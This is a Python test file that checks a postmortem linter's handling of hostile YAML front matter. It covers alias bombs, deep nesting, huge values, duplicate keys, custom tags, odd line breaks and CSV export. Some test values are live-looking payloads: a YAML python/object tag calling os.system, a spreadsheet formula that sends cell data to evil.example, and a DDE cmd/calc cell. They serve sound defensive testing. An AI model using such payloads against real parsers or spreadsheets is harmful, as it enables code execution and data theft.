"""Hostile YAML in front matter (and in the taxonomy): each case ends as a finding with its
file and line, quickly and in little memory, and the other postmortems are still checked.

Alias bombs, nesting deeper than the parser's stack, huge scalars, duplicate keys,
custom tags, timestamps without a time zone, CR LF / CR / BOM / U+2028 line breaks,
tabs and control characters; and what spreadsheets would run from a front-matter value.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import time
import tracemalloc

import pytest
from conftest import BASE_META, line_col, merged_meta, merged_sections, render

BASELINE = render(
    merged_meta({"id": "2024-03-14-hostile"}), merged_sections()
)  # its own id: no duplicate with the neighbour
NAME = "2024/hostile.md"
PATH = f"postmortems/{NAME}"


def front_matter_line(text: str, needle: str) -> int:
    return next(i for i, line in enumerate(text.splitlines(), start=1) if needle in line)


def checked(kb, data: str | bytes, *args: str) -> list[dict]:
    """Check `data` as postmortems/2024/hostile.md beside a postmortem with one known
    finding; assert that neighbour was still checked; return hostile.md's findings."""
    neighbour = kb.write(sections={"Lessons learned": "It was human error."})
    if isinstance(data, str):
        data = data.encode("utf-8")
    kb.write_bytes(NAME, data)
    code, out = kb.check("--format", "json", *args)
    assert "Traceback" not in kb.stderr, kb.stderr
    found = json.loads(out)
    assert code == (1 if any(f["severity"] == "error" for f in found) else 0)
    assert [(f["code"], f["line"]) for f in found if f["path"] == kb.rel(neighbour)] == [
        ("PM301", line_col(neighbour, "human error")[0])
    ]
    return [f for f in found if f["path"] == PATH]


def where(found: list[dict]) -> list[tuple[str, int, int]]:
    return [(f["code"], f["line"], f["column"]) for f in found]


# ---- alias bombs ------------------------------------------------------------------------

_LAUGHS = "".join(
    f"{c}: &{c} [" + ", ".join([f"*{p}"] * 9) + "]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True)
)
BOMBS = {
    "billion laughs": "---\na: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + _LAUGHS + "---\n",
    "in flow mappings": "---\na: &a {x: 1, y: 1, z: 1, w: 1}\n"
    + "".join(
        f"{c}: &{c} {{k1: *{p}, k2: *{p}, k3: *{p}, k4: *{p}, k5: *{p}, k6: *{p}, k7: *{p}, k8: *{p}}}\n"
        for p, c in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "---\n",
    "through merge keys": "---\na: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
    + "".join(
        f"{c}: &{c} {{<<: {{m: *{p}}}, k1: *{p}, k2: *{p}, k3: *{p}, k4: *{p}, "
        f"k5: *{p}, k6: *{p}, k7: *{p}, k8: *{p}}}\n"
        for p, c in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "---\n",
    "as mapping keys": "---\na: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
    + _LAUGHS
    + "? [*i, *i, *i]\n: x\n---\n",
    # One level, not nine: 25,000 aliases to a list of 2,000 (80 KB). Counting nodes as
    # they were visited queued 40 million entries first: 30 s and gigabytes.
    "one wide level": "---\na: {y: &a ["
    + ", ".join(["x"] * 2000)
    + "]}\nb: ["
    + ", ".join(["*a"] * 25_000)
    + "]\n---\n",
}


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
def test_an_alias_bomb_is_one_finding_found_quickly_in_little_memory(kb, bomb):
    tracemalloc.start()
    start = time.perf_counter()
    try:
        found = checked(kb, bomb + "\n## Summary\n\nText.\n")
        took = time.perf_counter() - start
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert where(found) == [("PM002", 2, 1)]
    assert "expands to more than 20000 values" in found[0]["message"]
    # 9^9 = 387 million strings if expanded; refused after 20,000 visits.
    assert took < 10 and peak < 64 * 1024 * 1024, (took, peak)


# ---- nesting deeper than the parser's stack --------------------------------------------------
# libyaml's composer recurses once per level: around 30,000 levels overflow the C stack and
# kill the process (SIGSEGV), which no `except` catches. So these run in a subprocess: a
# regression fails this test instead of the test run.


def _flow(levels: int) -> tuple[str, int, int]:
    # `id: [[[…`: the root mapping is level 1, so level 101 is the 100th `[` (column 104)
    return ("---\nid: " + "[" * levels + "]" * levels + "\n---\n", 2, 104)


def _flow_unclosed(levels: int) -> tuple[str, int, int]:
    return ("---\nid: " + "[" * levels + "\n---\n", 2, 104)


def _block(levels: int) -> tuple[str, int, int]:
    # `- - - x`: compact block lists, one level per `- `; level 101 starts at column 199
    return ("---\nid:\n" + "- " * levels + "x\n---\n", 3, 199)


DEEP = {
    **{f"flow-{n}.md": _flow(n) for n in (101, 999, 1_001, 100_000)},
    **{f"flow-unclosed-{n}.md": _flow_unclosed(n) for n in (1_001, 100_000)},
    **{f"block-{n}.md": _block(n) for n in (101, 999, 1_001, 100_000)},
    "flow-mappings.md": ("---\nid: " + "{a: " * 30_000 + "1" + "}" * 30_000 + "\n---\n", 2, 401),
    "block-mappings.md": (
        "---\n" + "".join(" " * i + "k:\n" for i in range(700)) + "---\n",
        102,
        101,
    ),  # 700 levels fill 256 KiB
}

# PyYAML without libyaml (its pure-Python loader): what `import yaml` gives where the C
# extension is missing. libyaml has nesting limits of its own (PyYAML 6.0.4 stops flow
# nesting at 1,000 levels); the finding must not depend on which library stops first.
LOADERS = {
    "C loader": "from postmortem_kb.cli import main",
    "pure-Python loader": "import yaml; del yaml.CSafeLoader; from postmortem_kb.cli import main",
}


@pytest.mark.parametrize("loader", sorted(LOADERS))
def test_nesting_deeper_than_100_levels_is_a_finding_not_a_crash(kb, loader):
    for name, (text, _, _) in DEEP.items():
        kb.write_bytes(f"2024/{name}", (text + "\n## Summary\n\nText.\n").encode())
    kb.write(meta={"teams": [[["fine"]]]})  # nested a little: an ordinary schema error
    argv = ["--config", str(kb.config), "check", "--format", "json", "--today", "2024-03-20", "-j", "1"]
    proc = subprocess.run(
        [sys.executable, "-c", f"import sys; {LOADERS[loader]}; sys.exit(main({argv!r}))"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 1, proc.stderr[-2000:]
    found = json.loads(proc.stdout)
    for name, (_, line, column) in DEEP.items():
        mine = [f for f in found if f["path"] == f"postmortems/2024/{name}"]
        assert where(mine) == [("PM002", line, column)], name
        assert mine[0]["message"] == "the front matter nests deeper than 100 levels", name
    assert {f["code"] for f in found if f["path"].endswith("delayed.md")} == {"PM101"}


def test_the_pure_python_loader_reads_an_ordinary_postmortem_as_the_c_loader_does(kb):
    """The loader switch above is real: without libyaml the same findings come out."""
    kb.write(sections={"Lessons learned": "It was human error."})
    argv = ["--config", str(kb.config), "check", "--format", "json", "--today", "2024-03-20", "-j", "1"]
    outs = {}
    for loader, prelude in LOADERS.items():
        proc = subprocess.run(
            [
                sys.executable,
                "-c",
                f"import sys, yaml; {prelude}; print(hasattr(yaml, 'CSafeLoader'), file=sys.stderr); "
                f"sys.exit(main({argv!r}))",
            ],
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert proc.returncode == 1, proc.stderr[-2000:]
        assert proc.stderr.strip().splitlines()[0] == str(loader == "C loader")
        outs[loader] = json.loads(proc.stdout)
    assert outs["C loader"] == outs["pure-Python loader"] and outs["C loader"]


# ---- huge scalars -------------------------------------------------------------------------


def test_a_front_matter_over_256_kib_is_one_finding_on_its_first_line(kb):
    text = BASELINE.replace("title: Order", "title: " + "x" * 300_000 + " Order", 1)
    assert where(checked(kb, text)) == [("PM002", 1, 1)]


def test_a_200_kib_title_is_a_schema_finding_at_the_title(kb):
    text = BASELINE.replace("title: Order", "title: " + "x" * 200_000 + " Order", 1)
    found = checked(kb, text)
    assert where(found) == [("PM101", 3, 8)]
    assert "at most 300 characters" in found[0]["message"]


def test_an_integer_of_5000_digits_is_a_yaml_finding_at_the_value(kb):
    text = BASELINE.replace("severity: SEV2", "severity: " + "7" * 5000, 1)
    found = checked(kb, text)
    assert where(found) == [("PM002", 6, 11)]
    assert "is not a valid int" in found[0]["message"]


def test_a_file_over_4_mib_is_one_finding_and_is_not_parsed(kb):
    text = BASELINE + ("A long pasted log line. " * 200_000)
    start = time.perf_counter()
    found = checked(kb, text)
    assert where(found) == [("PM001", 1, 1)]
    assert "over the 4 MiB limit" in found[0]["message"]
    assert time.perf_counter() - start < 10


@pytest.mark.parametrize(
    "body",
    [
        "](" * 1_500_000,  # a link target that never closes, from every opener
        "<!--" * 750_000,  # comments that never close
        "## a" + " " * 3_000_000 + "x",  # a heading's trailing-space pattern backtracked cubically
        "".join("`" * k + "a" for k in range(2400, 0, -1)),  # backtick strings that never close
        "human error " * 40_000,  # 40,000 phrases: each was checked against all the others (minutes)
    ],
    ids=["unclosed-links", "unclosed-comments", "heading-spaces", "backtick-runs", "many-phrases"],
)
def test_a_hostile_body_of_megabytes_is_checked_in_linear_time(kb, body):
    text = BASELINE.replace("From 13:52 to 15:40", body + "\nFrom 13:52 to 15:40", 1)
    start = time.perf_counter()
    checked(kb, text)
    # Quadratic scans took minutes to hours here; linear ones take about a second.
    assert time.perf_counter() - start < 30


# ---- duplicate keys -----------------------------------------------------------------------


def test_a_duplicate_top_level_key_is_reported_at_the_second_one(kb):
    text = BASELINE.replace("status: published\n", "status: published\nstatus: in-review\n", 1)
    found = checked(kb, text)
    assert where(found) == [("PM101", 5, 1)]
    assert found[0]["message"] == "duplicate key `status`"


def test_a_duplicate_key_inside_an_action_is_reported_where_it_is(kb):
    text = BASELINE.replace("  owner: Tomás Ortega\n", "  owner: Tomás Ortega\n  owner: Nobody\n", 1)
    assert where(checked(kb, text)) == [("PM101", front_matter_line(text, "owner: Nobody"), 3)]


def test_a_key_repeated_through_an_alias_is_a_duplicate(kb):
    text = BASELINE.replace("status: published\n", "&k status: published\n*k : in-review\n", 1)
    found = checked(kb, text)
    assert where(found) == [("PM101", 4, 1)]  # an alias is its anchor's node: reported at the anchored key
    assert found[0]["message"] == "duplicate key `status`"


# ---- custom tags --------------------------------------------------------------------------


def test_python_object_tags_are_refused_and_never_run(kb, tmp_path):
    marker = tmp_path / "pwned"
    text = BASELINE.replace("title: Order", f'title: !!python/object/apply:os.system ["touch {marker}"]\nx: Order', 1)
    found = checked(kb, text)
    assert where(found) == [("PM002", 3, 8)]
    assert (
        "could not determine a constructor for the tag 'tag:yaml.org,2002:python/object/apply:os.system'"
        in found[0]["message"]
    )
    assert not marker.exists()


@pytest.mark.parametrize(
    "value, message",
    [
        ("!foo Order", "could not determine a constructor for the tag '!foo'"),
        ("!!python/name:os.system", "could not determine a constructor"),
        ("!!timestamp soon", "`soon` is not a valid timestamp"),  # PyYAML raised AttributeError: the check crashed
        ("!!timestamp 2024-02-30", "`2024-02-30` is not a valid timestamp (day is out of range for month)"),
        ('!!int ""', "`` is not a valid int"),  # IndexError
        ("!!bool maybe", "`maybe` is not a valid bool"),  # KeyError
        ("!!float x", "`x` is not a valid float"),
        ("0000-01-01", "`0000-01-01` is not a valid timestamp (year 0 is out of range)"),  # plain, resolved as a date
        ("2024-01-01T00:00:00+24:30", "is not a valid timestamp (offset must be a timedelta strictly between"),
    ],
)
def test_a_tag_that_cannot_build_its_value_is_a_yaml_finding_at_the_value(kb, value, message):
    text = BASELINE.replace("title: Order confirmation emails delayed by a queue backlog", f"title: {value}", 1)
    found = checked(kb, text)
    assert where(found) == [("PM002", 3, 8)]
    assert message in found[0]["message"]


def test_a_value_tagged_as_another_type_is_a_schema_finding(kb):
    text = BASELINE.replace("started: 2024-03-14 13:52:00+00:00", "started: !!str 2024-03-14 13:52:00+00:00", 1)
    found = checked(kb, text)
    assert where(found) == [("PM101", 13, 10)]
    assert found[0]["message"] == "`started` must be a date and time with a time zone"
    assert found[0]["hint"] == "for example `2024-03-14T13:52:00+00:00`"


# ---- timestamps without a time zone ------------------------------------------------------------


@pytest.mark.parametrize("field", ["started", "detected", "mitigated", "resolved"])
def test_an_incident_timestamp_without_a_zone_is_a_schema_finding_at_it(kb, field):
    value = str(BASE_META[field]).removesuffix("+00:00")
    text = BASELINE.replace(f"{field}: {BASE_META[field]}", f"{field}: {value}", 1)
    found = checked(kb, text)
    line = front_matter_line(text, f"{field}: ")
    assert where(found) == [("PM101", line, len(field) + 3)]
    assert (
        found[0]["message"]
        == f"`{field}`: timestamp has no time zone; add one, e.g. `2024-03-14T13:52:00+00:00` or `Z`"
    )


def test_an_incident_date_without_a_time_asks_for_a_time_and_zone(kb):
    text = BASELINE.replace("started: 2024-03-14 13:52:00+00:00", "started: 2024-03-14", 1)
    found = checked(kb, text)
    assert where(found) == [("PM101", 13, 10)]
    assert "needs a time with a time zone" in found[0]["message"]


def test_filed_and_public_postmortem_without_a_zone_are_findings(kb):
    text = BASELINE.replace("filed: 2024-03-15", "filed: 2024-03-15 09:00:00", 1).replace(
        "customer_impact: false", "customer_impact: true\npublic_postmortem: 2024-03-16 10:00:00", 1
    )
    found = checked(kb, text)
    assert [(f["code"], f["line"]) for f in found] == [("PM101", 17), ("PM101", 19)]
    assert all("no time zone" in f["message"] for f in found)


def test_timestamps_at_the_ends_of_the_calendar_are_findings_not_overflows(kb):
    text = (
        BASELINE.replace("started: 2024-03-14 13:52:00+00:00", "started: 0001-01-01T00:00:00+23:59", 1)
        .replace("resolved: 2024-03-14 16:05:00+00:00", "resolved: 9999-12-31T23:59:59-23:59", 1)
        .replace("customer_impact: false", "customer_impact: true", 1)
    )
    found = checked(kb, text)
    # `filed` (2024) is before `resolved` (9999) and after `started`: the timeline lies
    # outside the incident's days, and nothing overflows.
    assert {f["rule"] for f in found} <= {"schema", "timeline-order", "missing-public-postmortem"}
    assert all(1 <= f["line"] <= len(text.splitlines()) for f in found)


# ---- line breaks, BOMs, tabs and control characters -----------------------------------------


def test_a_bom_and_crlf_keep_line_and_column_of_a_yaml_error(kb):
    text = BASELINE.replace("title: Order confirmation", "title: Order: confirmation", 1)
    found = checked(kb, b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode())
    assert where(found) == [("PM002", 3, 13)]  # the second `:`, as without BOM and CR


def test_old_mac_line_endings_count_as_line_breaks(kb):
    text = BASELINE.replace("None were lost.", "It was human error.", 1)
    found = checked(kb, text.replace("\n", "\r"))
    assert where(found) == [("PM301", *line_col_in(text, "human error"))]


@pytest.mark.parametrize("char", ["\u2028", "\u2029", "\x85", "\x0c", "\x1c"], ids=["LS", "PS", "NEL", "FF", "FS"])
def test_characters_python_breaks_lines_at_do_not_shift_body_line_numbers(kb, char):
    # Python's splitlines() ends lines at all of these; Markdown and editors at none.
    text = BASELINE.replace("About 21,000 emails", f"About{char} 21,000 emails", 1).replace(
        "None were lost.", "It was human error.", 1
    )
    found = checked(kb, text)
    assert where(found) == [("PM301", *line_col_in(text, "human error"))]


@pytest.mark.parametrize("char", ["\u2028", "\u2029", "\x85"], ids=["LS", "PS", "NEL"])
def test_characters_yaml_breaks_lines_at_do_not_shift_front_matter_line_numbers(kb, char):
    # YAML 1.1 ends lines at NEL, LS and PS too: its line numbers run ahead of the file's.
    text = BASELINE.replace(
        "title: Order confirmation emails delayed by a queue backlog",
        f'title: "Order confirmation{char}emails delayed"',
        1,
    )
    text = text.replace("severity: SEV2", "severity: SEV9", 1)
    found = checked(kb, text)
    assert where(found) == [("PM106", 6, 11)]


def test_a_form_feed_in_the_front_matter_is_a_yaml_finding_at_it(kb):
    text = BASELINE.replace("title: Order confirmation", "title: Order\x0cconfirmation", 1)
    found = checked(kb, text)
    assert where(found) == [("PM002", 3, 13)]


def test_a_tab_indenting_a_field_is_a_yaml_finding_at_its_line(kb):
    text = BASELINE.replace("\nstatus: published", "\n\tstatus: published", 1)
    found = checked(kb, text)
    assert [(f["code"], f["line"]) for f in found] == [("PM002", 4)]


def test_a_tab_indenting_a_list_item_is_a_yaml_finding_at_its_line(kb):
    text = BASELINE.replace("  owner: Tomás Ortega", "\towner: Tomás Ortega", 1)
    found = checked(kb, text)
    assert [(f["code"], f["line"]) for f in found] == [("PM002", front_matter_line(text, "owner: Tomás"))]


def test_tabs_in_the_body_and_between_key_and_value_are_fine(kb):
    text = BASELINE.replace("status: published", "status:\tpublished", 1).replace(
        "None were lost.", "None\twere lost.", 1
    )
    assert checked(kb, text) == []


@pytest.mark.parametrize("char", ["\x00", "\x1b", "\x7f", "\x9b"], ids=["NUL", "ESC", "DEL", "CSI"])
def test_a_control_character_is_a_yaml_finding_at_its_line_and_column(kb, char):
    text = BASELINE.replace("title: Order confirmation", f"title: Order confé{char}rmation", 1)
    found = checked(kb, text)
    assert where(found) == [("PM002", 3, 19)]
    assert f"the character U+{ord(char):04X} is not allowed" in found[0]["message"]


def test_a_byte_that_is_not_utf8_is_reported_at_its_character_column(kb):
    data = (
        BASELINE.replace("title: Order confirmation", "title: Ordér confirmation", 1)
        .encode()
        .replace(b"confirmation", b"conf\xffirmation", 1)
    )
    found = checked(kb, data)
    assert where(found) == [("PM003", 3, 18)]  # after "title: Ordér conf": 17 characters, 18 bytes
    offset = data.index(b"\xff")
    assert found[0]["message"] == f"the file is not UTF-8 (byte 0xff at offset {offset})"


def line_col_in(text: str, needle: str) -> tuple[int, int]:
    for number, line in enumerate(text.replace("\r\n", "\n").replace("\r", "\n").split("\n"), start=1):
        if needle in line:
            return number, line.index(needle) + 1
    raise AssertionError(needle)


# ---- the taxonomy --------------------------------------------------------------------------


def taxonomy_findings(kb, text: str) -> list[dict]:
    (kb / "postmortems" / "factors.yml").write_text(text, encoding="utf-8")
    kb.write()
    _, out = kb.check("--format", "json")
    assert "Traceback" not in kb.stderr, kb.stderr
    return [f for f in json.loads(out) if f["path"] == "postmortems/factors.yml"]


def test_an_alias_bomb_in_the_taxonomy_is_a_finding(kb):
    bomb = "x: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + _LAUGHS.replace("b: &b", "b: &b", 1)
    start = time.perf_counter()
    found = taxonomy_findings(kb, bomb.replace("*a", "*a", 1) + "factors: [*i]\n")
    assert [(f["code"], f["line"]) for f in found] == [("PM002", 1)]
    assert time.perf_counter() - start < 10


@pytest.mark.parametrize(
    "text, line",
    [
        (
            "factors: not a list\nfactors:\n  - id: dns\n    name: DNS\n    category: technical\n",
            2,
        ),  # a duplicate; the scalar was iterated
        ("categories: [technical]\nfactors:\n  - id: dns\n    category: technical\n", 1),  # a list has no .items()
        ("factors:\n  - [dns]\n", 2),
    ],
    ids=["factors-twice", "categories-a-list", "factor-a-list"],
)
def test_a_taxonomy_of_the_wrong_shape_is_a_finding_not_a_crash(kb, text, line):
    found = taxonomy_findings(kb, text)
    assert found and found[0]["line"] == line
    assert {f["code"] for f in found} <= {"PM101", "PM002"}


# ---- values that spreadsheets would run --------------------------------------------------------


def test_remediation_csv_neutralises_cells_that_start_like_a_formula(kb):
    hostile = {
        "summary": '=HYPERLINK("https://evil.example/?"&A1, "Click")',
        "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
        "status": "open",
        "due": BASE_META["actions"][0]["due"],
    }
    teams = ["+team", "-team"]
    kb.write(meta={"teams": teams, "title": "\tTabbed title", "actions": [hostile]})
    code, out = kb.run("report", "remediation", "--format", "csv", "--today", "2024-06-01")
    assert code == 0, kb.stderr
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 1
    row = rows[0]
    assert row["summary"] == "'" + hostile["summary"]
    assert row["owner"] == "'" + hostile["owner"]
    assert row["teams"] == "'+team;-team"
    assert row["postmortem_title"] == "'\tTabbed title"
    # Our own numbers stay numbers, and nothing else changed.
    assert row["overdue_days"] == "32" and row["due"] == "2024-04-30" and row["status"] == "open"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
